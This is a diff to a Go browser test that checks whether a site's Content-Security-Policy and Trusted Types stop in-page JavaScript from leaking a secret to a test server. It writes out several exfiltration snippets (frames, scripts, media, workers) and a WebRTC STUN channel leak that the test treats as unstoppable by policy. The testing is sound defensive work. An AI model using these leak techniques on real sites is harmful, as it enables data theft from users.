@@ -88,7 +88,7 @@ func attempts() []attempt {
 		{"style sheet", link("stylesheet", ""), csp("style-src-elem")},
 		{"script", element("script", `e.type = "module"; e.src = to;`), refused},
 		{"import()", `await import(to)`, csp("script-src-elem")},
-		{"frame", element("iframe", `e.src = to;`), connected},
+		{"frame", element("iframe", `e.src = to;`), csp("frame-src")},
 		{"object", element("object", `e.data = to;`), refused},
 		{"video", element("video", `e.src = to;`), csp("media-src")},
 		{"SVG image", `const e = document.createElementNS("http://www.w3.org/2000/svg", "image"); e.setAttribute("href", to);
@@ -125,9 +125,13 @@ const probe = `onmessage = async ({ data: { op, to } }) => {
 };
 `
 
-// run makes an attempt in the page and returns what the browser said of it.
-func (p *tab) exfiltrate(js, to string) (said string) {
+// exfiltrate makes an attempt in the page and returns what the browser said of it. With word, it waits longer for the browser to say something.
+func (p *tab) exfiltrate(js, to string, word bool) (said string) {
 	p.t.Helper()
+	rounds := 8
+	if word {
+		rounds = 200
+	}
 	return p.async(`(async () => {
 		const to = ` + fmt.Sprintf("%q", to) + `, before = violations.length;
 		const ask = async (m) => { const w = new Worker(anomnet.offline.script(new URL("assets/js/thumbs.mjs", document.baseURI).href), {type: "module"});
@@ -136,7 +140,7 @@ func (p *tab) exfiltrate(js, to string) (said string) {
 		try {
 			said = await Promise.race([(async () => { ` + js + ` })(), new Promise((r) => setTimeout(r, 3000))]) ?? "";
 		} catch (e) { if (/TrustedScript|TrustedHTML|not a worker of this page|unsafe-eval/.test(String(e))) said = "trusted types"; }
-		for (let i = 0; i < 8 && !said && violations.length === before; i++) await new Promise((r) => setTimeout(r, 50)); // the browser may be slow to say
+		for (let i = 0; i < ` + fmt.Sprint(rounds) + ` && !said && violations.length === before; i++) await new Promise((r) => setTimeout(r, 50)); // the browser may be slow to say
 		await new Promise((r) => setTimeout(r, 50));
 		return said || violations.slice(before).map((v) => v.split(" ")[0]).join("+");
 	})()`)
@@ -146,12 +150,12 @@ func judge(said string, s *stranger) outcome {
 	switch {
 	case s.requests.Load() > 0:
 		return openRoad
-	case s.conns.Load() > 0:
-		return connected
 	case said == "trusted types" || strings.Contains(said, "require-trusted-types-for"):
 		return refused
 	case said != "":
 		return byPolicy + outcome(strings.Split(said, "+")[0])
+	case s.conns.Load() > 0:
+		return connected
 	}
 	return silent
 }
@@ -166,9 +170,12 @@ func TestExfiltration(t *testing.T) {
 	for _, a := range attempts() {
 		s := newStranger(t)
 		strangers[a.name] = s
-		said := p.exfiltrate(a.js, s.URL+"/?secret")
+		said := p.exfiltrate(a.js, s.URL+"/?secret", a.normal != silent && a.normal != connected)
+		if a.normal == connected {
+			assert.Eventually(t, func() bool { return s.conns.Load() > 0 }, 10*time.Second, 20*time.Millisecond, a.name)
+		}
 		got := judge(said, s)
-		fmt.Fprintf(w, "%s\t%s\t%s\n", a.name, got, said)
+		fmt.Fprintf(w, "%s\t%s\t%d connections\n", a.name, got, s.conns.Load())
 		assert.Equal(t, a.normal, got, a.name)
 	}
 	w.Flush()
@@ -205,10 +212,10 @@ func TestExfiltrationThatNoPolicyStops(t *testing.T) {
 			log := filepath.Join(t.TempDir(), "net.json")
 			p := open(t, serve(t, siteDir(t)), desktop, append(c.flags, chromedp.Flag("log-net-log", log))...)
 			for _, js := range names {
-				p.exfiltrate(js, "")
+				p.exfiltrate(js, "", false)
 			}
 			p.exfiltrate(`const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + to}]}); c.createDataChannel("secret"); await c.setLocalDescription();
-				await new Promise((r) => setTimeout(r, 1500))`, stun.addr)
+				await new Promise((r) => setTimeout(r, 1500))`, stun.addr, false)
 			if c.packet {
 				assert.Eventually(t, func() bool { return stun.packets.Load() > 0 }, 10*time.Second, 50*time.Millisecond)
 			} else {
